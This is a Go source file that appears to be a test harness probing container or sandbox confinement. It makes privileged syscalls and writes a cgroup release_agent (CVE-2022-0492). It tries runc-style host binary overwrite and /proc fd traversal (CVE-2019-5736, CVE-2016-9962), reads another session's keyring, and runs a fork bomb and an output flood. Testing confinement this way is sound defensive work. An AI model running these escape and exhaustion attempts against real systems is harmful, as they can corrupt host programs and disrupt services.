package main

import (
	"errors"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"time"
	"unsafe"
)

// What hostile programs try. Each attempt prints its name and how the kernel
// answered: "ok", or the name of the error.

const (
	keySession    = ^uintptr(2) // -3
	sysClone3     = 435
	afVsock       = 40
	afAlg         = 38
	keyctlSearch  = 10
	keyctlRead    = 11
	unshareUserNS = syscall.CLONE_NEWUSER
)

var attempts = map[string]func() error{
	"unshare-user": func() error { return syscall.Unshare(syscall.CLONE_FS | unshareUserNS) },
	"unshare-net":  func() error { return syscall.Unshare(syscall.CLONE_NEWNET) },
	"mount":        func() error { return syscall.Mount("tmpfs", "/tmp", "tmpfs", 0, "") },
	"remount-proc": func() error { return syscall.Mount("proc", "/tmp", "proc", 0, "") },
	"umount-mask":  func() error { return syscall.Unmount("/proc/keys", syscall.MNT_DETACH) },
	"vsock":        func() error { return openSocket(afVsock) },
	"alg":          func() error { return openSocket(afAlg) },
	"inet":         func() error { return openSocket(syscall.AF_INET) },
	"keyctl":       func() error { return raw(syscall.SYS_KEYCTL, 0, keySession, 0) },
	"bpf":          func() error { return raw(321, 0, 0, 0) },
	"clone3":       func() error { return raw(sysClone3, 0, 0, 0) },
	"reboot":       func() error { return raw(syscall.SYS_REBOOT, 0, 0, 0) }, // without the magic numbers
	"init-module":  func() error { return raw(syscall.SYS_INIT_MODULE, 0, 0, 0) },
	"swapon":       func() error { return raw(syscall.SYS_SWAPON, 0, 0, 0) },
	"settime":      func() error { return syscall.Settimeofday(&syscall.Timeval{Sec: time.Now().Unix()}) },
	"chroot":       func() error { return syscall.Chroot("/") },
	"setns":        func() error { return setns("/proc/1/ns/net") },
	"mkdir":        func() error { return os.MkdirAll("/tmp/made", 0o755) },
	"setuid":       func() error { return syscall.Setuid(12345) },
	"disk":         func() error { return device("/tmp/disk", syscall.S_IFBLK, 8, 0) },
	"memory":       func() error { return device("/tmp/mem", syscall.S_IFCHR, 1, 1) },
	"null":         func() error { return device("/tmp/null", syscall.S_IFCHR, 1, 3) },
	"kmsg":         func() error { return device("/tmp/kmsg", syscall.S_IFCHR, 1, 11) },
	"release-agent": func() error { // CVE-2022-0492
		return childIn(syscall.CLONE_NEWUSER|syscall.CLONE_NEWNS|syscall.CLONE_NEWCGROUP, "release-agent-inside")
	},
	"release-agent-inside": func() error {
		if err := os.MkdirAll("/tmp/cg", 0o755); err != nil {
			return err
		}
		var last error = errors.New("no hierarchy")
		for _, controller := range []string{"memory", "rdma", "cpu", "pids", "freezer"} {
			if last = syscall.Mount("cgroup", "/tmp/cg", "cgroup", 0, controller); last != nil {
				continue
			}
			last = os.WriteFile("/tmp/cg/release_agent", []byte("/tmp/evil"), 0)
			if err := syscall.Unmount("/tmp/cg", 0); err != nil {
				return err
			}
			if last == nil {
				return nil
			}
		}
		return last
	},
}

func raw(n, a, b, c uintptr) error {
	if _, _, e := syscall.Syscall(n, a, b, c); e != 0 {
		return e
	}
	return nil
}

func openSocket(family int) error {
	fd, err := syscall.Socket(family, syscall.SOCK_STREAM, 0)
	if family == afAlg {
		fd, err = syscall.Socket(family, syscall.SOCK_SEQPACKET, 0)
	}
	if err == nil {
		err = syscall.Close(fd)
	}
	return err
}

func setns(path string) error {
	f, err := os.Open(path)
	if err != nil {
		return err
	}
	defer f.Close()
	return raw(308, f.Fd(), 0, 0)
}

// device makes a node and opens it for writing.
func device(path string, kind uint32, major, minor int) error {
	if err := syscall.Mknod(path, kind|0o666, major<<8|minor); err != nil && !errors.Is(err, syscall.EEXIST) {
		return fmt.Errorf("mknod: %w", err)
	}
	return openFor(path, os.O_RDWR)
}

func openFor(path string, flags int) error {
	f, err := os.OpenFile(path, flags, 0)
	if err == nil {
		err = f.Close()
	}
	return err
}

func childIn(flags uintptr, attempt string) error {
	c := exec.Command("/proc/self/exe", "try", attempt)
	c.SysProcAttr = &syscall.SysProcAttr{
		Cloneflags:  flags,
		UidMappings: []syscall.SysProcIDMap{{HostID: os.Getuid(), Size: 1}},
		GidMappings: []syscall.SysProcIDMap{{HostID: os.Getgid(), Size: 1}},
	}
	out, err := c.Output()
	if err != nil {
		return err
	}
	if said := strings.TrimSpace(string(out)); !strings.HasSuffix(said, ": ok") {
		return errors.New(said)
	}
	return nil
}

func answer(err error) string {
	var errno syscall.Errno
	switch {
	case err == nil:
		return "ok"
	case errors.As(err, &errno):
		return errno.Error()
	}
	return err.Error()
}

func try(names []string) {
	for _, name := range names {
		f := attempts[name]
		if path, ok := strings.CutPrefix(name, "write:"); ok {
			f = func() error { return openFor(path, os.O_WRONLY) }
		} else if path, ok := strings.CutPrefix(name, "open:"); ok {
			f = func() error { return openFor(path, os.O_RDWR) }
		} else if path, ok := strings.CutPrefix(name, "size:"); ok {
			f = func() error {
				data, err := io.ReadAll(io.LimitReader(mustOpen(path), 1))
				if err == nil && len(data) == 0 {
					err = errors.New("empty")
				}
				return err
			}
		}
		if f == nil {
			check(fmt.Errorf("unknown attempt %q", name))
		}
		fmt.Println(name+":", answer(f()))
	}
}

func mustOpen(path string) io.Reader {
	f, err := os.Open(path)
	if err != nil {
		return failing{err}
	}
	return f
}

type failing struct{ err error }

func (f failing) Read([]byte) (int, error) { return 0, f.err }

// hunt goes after every process that shows up beside it and is not of this
// program (CVE-2019-5736, CVE-2016-9962): it tries to write to its program,
// and to reach a folder through one of its open files. It ends when told to by
// a file.
func hunt(until, marker string) {
	self, err := os.Stat("/proc/self/exe")
	check(err)
	seen := map[string]bool{}
	say := func(what string) {
		if !seen[what] {
			seen[what] = true
			fmt.Println(what)
		}
	}
	fmt.Println("ready")
	for {
		if _, err := os.Stat(until); err == nil {
			fmt.Println("over")
			return
		}
		entries, err := os.ReadDir("/proc")
		check(err)
		for _, e := range entries {
			if _, err := strconv.Atoi(e.Name()); err != nil {
				continue
			}
			dir := "/proc/" + e.Name()
			if exe, err := os.Stat(dir + "/exe"); err == nil && !os.SameFile(exe, self) {
				say("met another program")
			}
			held, err := os.OpenFile(dir+"/exe", os.O_RDONLY, 0)
			if err == nil {
				if st, err := held.Stat(); err == nil && !os.SameFile(st, self) {
					say("opened another program")
					// Once it has become something else, its file can be written.
					for range 200 {
						f, err := os.OpenFile("/proc/self/fd/"+strconv.Itoa(int(held.Fd())), os.O_WRONLY, 0)
						if err == nil {
							_, err = f.WriteAt([]byte("OWNED"), 0)
							f.Close()
							if err == nil {
								say("WROTE another program")
							}
							break
						}
					}
				}
				held.Close()
			}
			fds, _ := os.ReadDir(dir + "/fd")
			for _, fd := range fds {
				if e.Name() == strconv.Itoa(os.Getpid()) {
					break
				}
				if _, err := os.Stat(dir + "/fd/" + fd.Name() + "/../../../../../../../.." + marker); err == nil {
					say("REACHED the host through " + fd.Name())
				}
			}
			if _, err := os.Stat(dir + "/cwd/../../../../../../../.." + marker); err == nil {
				say("REACHED the host through a working directory")
			}
			if _, err := os.Stat(dir + "/root" + marker); err == nil {
				say("REACHED the host through a root")
			}
		}
	}
}

// fds prints what this process was left with.
func fds() {
	entries, err := os.ReadDir("/proc/self/fd")
	check(err)
	for _, e := range entries {
		to, err := os.Readlink(filepath.Join("/proc/self/fd", e.Name()))
		if err == nil {
			kind, _, _ := strings.Cut(to, ":")
			fmt.Println(e.Name(), kind)
		}
	}
}

// key puts a key into the session's keyring, or looks for it there.
func key(args []string) {
	kind, _ := syscall.BytePtrFromString("user")
	name, _ := syscall.BytePtrFromString(args[1])
	switch args[0] {
	case "add":
		secret := []byte("secret")
		id, _, e := syscall.Syscall6(syscall.SYS_ADD_KEY, uintptr(unsafe.Pointer(kind)), uintptr(unsafe.Pointer(name)), uintptr(unsafe.Pointer(&secret[0])), uintptr(len(secret)), keySession, 0)
		if e != 0 {
			check(e)
		}
		fmt.Println("added", id)
		time.Sleep(time.Hour)
	case "find":
		_, _, e := syscall.Syscall6(syscall.SYS_KEYCTL, keyctlSearch, keySession, uintptr(unsafe.Pointer(kind)), uintptr(unsafe.Pointer(name)), 0, 0)
		fmt.Println("find:", answer(errnoOrNil(e)))
		if len(args) > 2 { // by its number, from wherever
			id, err := strconv.Atoi(args[2])
			check(err)
			buf := make([]byte, 64)
			_, _, e = syscall.Syscall6(syscall.SYS_KEYCTL, keyctlRead, uintptr(id), uintptr(unsafe.Pointer(&buf[0])), uintptr(len(buf)), 0, 0)
			fmt.Println("read:", answer(errnoOrNil(e)))
		}
	}
}

func errnoOrNil(e syscall.Errno) error {
	if e == 0 {
		return nil
	}
	return e
}

// bomb forks until it may not, keeps what it has, and says how many.
func bomb() {
	n := 0
	for {
		c := exec.Command("/proc/self/exe", "idle")
		if err := c.Start(); err != nil {
			fmt.Println("stopped at", n, "by", answer(err))
			time.Sleep(time.Hour)
		}
		n++
	}
}

// flood writes lines as fast as it can.
func flood(mib int) {
	line := []byte(strings.Repeat("x", 1023) + "\n")
	chunk := make([]byte, 0, 64<<10)
	for len(chunk)+len(line) <= cap(chunk) {
		chunk = append(chunk, line...)
	}
	for written := 0; written < mib<<20; written += len(chunk) {
		if _, err := os.Stdout.Write(chunk); err != nil {
			check(err)
		}
	}
}
